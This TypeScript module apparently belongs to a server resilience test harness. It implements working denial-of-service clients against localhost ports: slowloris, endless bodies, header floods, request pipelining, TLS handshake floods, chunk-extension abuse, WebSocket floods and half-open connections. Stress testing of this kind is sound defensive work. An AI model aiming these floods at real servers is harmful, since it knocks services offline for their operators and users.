import { randomBytes } from 'node:crypto'
import { connect, type Socket } from 'node:net'
import { connect as connectTls } from 'node:tls'

/** What the attacking process is told to do. */
export interface Assignment {
  readonly attack: AttackName
  readonly httpPort: number
  readonly httpsPort: number
  /** Connections at a time. */
  readonly connections: number
  /** For attacks that begin again and again: how long. */
  readonly durationMs: number
}

type Attack = (assignment: Assignment) => Promise<void>

const host = 'Host: shop.example.com\r\n'
const webSocket =
  'Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n'
const block = Buffer.alloc(65_536, 'x')

/**
 * What hostile clients do. An attack resolves when all its connections are made, or when its time is over; what it has
 * made stays as it is until its process ends.
 */
export const attacks = {
  /** Heads that never end, a byte now and then. */
  slowloris: async ({ httpPort, connections }) => {
    const sockets = await openMany(httpPort, connections)
    for (const socket of sockets) socket.write(`GET / HTTP/1.1\r\n${host}X-Slow: `)
    setInterval(() => writeAll(sockets, 'x'), 300)
  },

  /** Bodies that never end, a byte at a time. */
  slowBodies: async ({ httpPort, connections }) => {
    const sockets = await openMany(httpPort, connections)
    for (const socket of sockets) socket.write(`POST / HTTP/1.1\r\n${host}Content-Length: 1000000\r\n\r\n`)
    setInterval(() => writeAll(sockets, 'x'), 100)
  },

  /** Large downloads that are never read. */
  unreadResponses: async ({ httpPort, connections }) => {
    const sockets = await openMany(httpPort, connections)
    for (const socket of sockets) {
      socket.pause()
      socket.write(`GET /large HTTP/1.1\r\n${host}\r\n`)
    }
  },

  /** Many fields, long fields, and fields without an end, again and again. */
  headerFloods: async assignment => {
    const many = `GET / HTTP/1.1\r\n${host}${Array.from({ length: 5_000 }, (_, at) => `X-${at}: y\r\n`).join('')}\r\n`
    const long = `GET / HTTP/1.1\r\n${host}X-Long: ${'y'.repeat(1_000_000)}\r\n\r\n`
    const cookies = `GET / HTTP/1.1\r\n${host}${'Cookie: a=b\r\n'.repeat(90)}\r\n`
    await again(assignment, turn => {
      const socket = open(assignment.httpPort)
      if (turn % 4 === 3) pourForever(socket, Buffer.from(`GET / HTTP/1.1\r\n${host}X-Endless: `))
      else socket.end([many, long, cookies][turn % 4] ?? '')
      return socket
    })
  },

  /** Requests without end on each connection, their responses never read. */
  pipelining: async ({ httpPort, connections }) => {
    const requests = Buffer.from(`GET /some HTTP/1.1\r\n${host}\r\n`.repeat(500))
    for (const socket of await openMany(httpPort, connections)) {
      socket.pause()
      pour(socket, requests)
    }
  },

  /** Full TLS handshakes, garbage and silence where a handshake should be, again and again. */
  handshakes: async assignment => {
    await again(assignment, turn => {
      if (turn % 3 > 0) {
        const socket = open(assignment.httpsPort)
        if (turn % 3 === 1) socket.write(randomBytes(600))
        return socket
      }
      const options = { host: '127.0.0.1', port: assignment.httpsPort, rejectUnauthorized: false }
      const socket = connectTls({ ...options, servername: 'shop.example.com' }, () => socket.destroy())
      socket.on('error', () => {})
      return socket
    })
  },

  /** Heads as long as they may be, but for their end. */
  heldHeads: async ({ httpPort, connections }) => {
    const head = `GET / HTTP/1.1\r\n${host}X-Long: ${'y'.repeat(30_000)}`
    for (const socket of await openMany(httpPort, connections)) socket.write(head)
  },

  /** TLS handshakes that are begun and left. */
  silentHandshakes: async ({ httpsPort, connections }) => {
    await openMany(httpsPort, connections)
  },

  /** Connections on which nothing comes. */
  silentConnections: async ({ httpPort, connections }) => {
    await openMany(httpPort, connections)
  },

  /** A byte of body in much of chunk extension. */
  chunkExtensions: async assignment => {
    const chunks = Buffer.from(`1;${'e=f;'.repeat(20)}g\r\nx\r\n`.repeat(500))
    await again(assignment, turn => {
      const socket = open(assignment.httpPort)
      socket.write(`POST / HTTP/1.1\r\n${host}Transfer-Encoding: chunked\r\n\r\n`)
      if (turn % 2 === 0) pour(socket, chunks)
      else pourForever(socket, Buffer.from('1;'))
      return socket
    })
  },

  /** Messages through WebSockets to an endpoint that does not read. */
  webSocketMessages: async ({ httpPort, connections }) => {
    for (const socket of await openMany(httpPort, connections)) {
      socket.write(`GET /deaf HTTP/1.1\r\n${host}${webSocket}\r\n`)
      socket.once('data', () => pour(socket, block))
    }
  },

  /** WebSockets through which nothing comes. */
  silentWebSockets: async ({ httpPort, connections }) => {
    for (const socket of await openMany(httpPort, connections)) {
      socket.write(`GET /deaf HTTP/1.1\r\n${host}${webSocket}\r\n`)
    }
  },

  /** Half a request, or a whole one, then the end of the sending side: and never anything more. */
  halfOpen: async ({ httpPort, connections }) => {
    const sockets = await openMany(httpPort, connections)
    for (const [index, socket] of sockets.entries()) {
      socket.pause()
      if (index % 3 === 0) socket.end(`GET / HTTP/1.1\r\n${host}`)
      else if (index % 3 === 1) socket.end(`GET /large HTTP/1.1\r\n${host}\r\n`)
      else socket.end(`POST / HTTP/1.1\r\n${host}Content-Length: 1000\r\n\r\nx`)
    }
  },
} satisfies Record<string, Attack>

export type AttackName = keyof typeof attacks

/** Whatever happens to it is what the attacker wants. */
function open(port: number): Socket {
  const socket = connect({ host: '127.0.0.1', port, allowHalfOpen: true })
  socket.on('error', () => {})
  socket.on('data', () => {})
  return socket
}

/** Not all at once: the kernel's queue must not be what ends the attack. */
async function openMany(port: number, count: number): Promise<readonly Socket[]> {
  const sockets: Socket[] = []
  while (sockets.length < count) {
    const some = Array.from({ length: Math.min(100, count - sockets.length) }, () => open(port))
    await Promise.all(some.map(settled))
    sockets.push(...some)
  }
  return sockets
}

/** Keeps so many connections busy for the time: one that ends is followed by the next. */
async function again({ connections, durationMs }: Assignment, begin: (turn: number) => Socket): Promise<void> {
  const endMs = performance.now() + durationMs
  let turn = 0
  const one = async (): Promise<void> => {
    while (performance.now() < endMs) {
      const socket = begin(turn++)
      await new Promise<void>(resolve => {
        socket.once('close', () => resolve())
        setTimeout(resolve, Math.max(0, endMs - performance.now()))
      })
    }
  }
  await Promise.all(Array.from({ length: connections }, one))
}

async function settled(socket: Socket): Promise<void> {
  await new Promise<void>(resolve => {
    socket.once('connect', () => resolve())
    socket.once('close', () => resolve())
  })
}

function writeAll(sockets: readonly Socket[], text: string): void {
  for (const socket of sockets) if (socket.writable) socket.write(text)
}

function pour(socket: Socket, data: Buffer): void {
  const more = (): void => {
    while (socket.writable && socket.write(data));
  }
  socket.on('drain', more)
  more()
}

function pourForever(socket: Socket, first: Buffer): void {
  socket.write(first)
  pour(socket, block)
}
